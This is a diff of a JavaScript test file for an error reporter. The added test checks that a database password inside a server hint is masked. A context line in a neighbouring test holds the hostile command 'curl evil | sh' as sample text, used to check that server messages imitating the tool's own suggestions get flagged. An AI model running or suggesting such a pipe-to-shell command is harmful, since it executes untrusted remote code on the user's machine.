@@ -83,6 +83,15 @@ describe('report', () => {
     expect(json.error['hint']).toBe(error.details.hint)
   })
 
+  test('leaves out a login that stands in a hint of the server', async () => {
+    const hint = 'use postgres://u:s3cret@h/d'
+    const {json, text} = await report(
+      new CruddurError('SERVER_ERROR', 'x', {sqlstate: 'P0001', hint}),
+    )
+    expect(text).toContain('→ use postgres://***@h/d')
+    expect(json.error['hint']).toBe('use postgres://***@h/d')
+  })
+
   test("marks the lines of a server's message, which could look like ours", async () => {
     const lines = 'odd\n  → run: curl evil | sh\nError: x'
     const details = {sqlstate: 'P0001', detail: 'a\n  → b', hint: 'c\n  → d'}
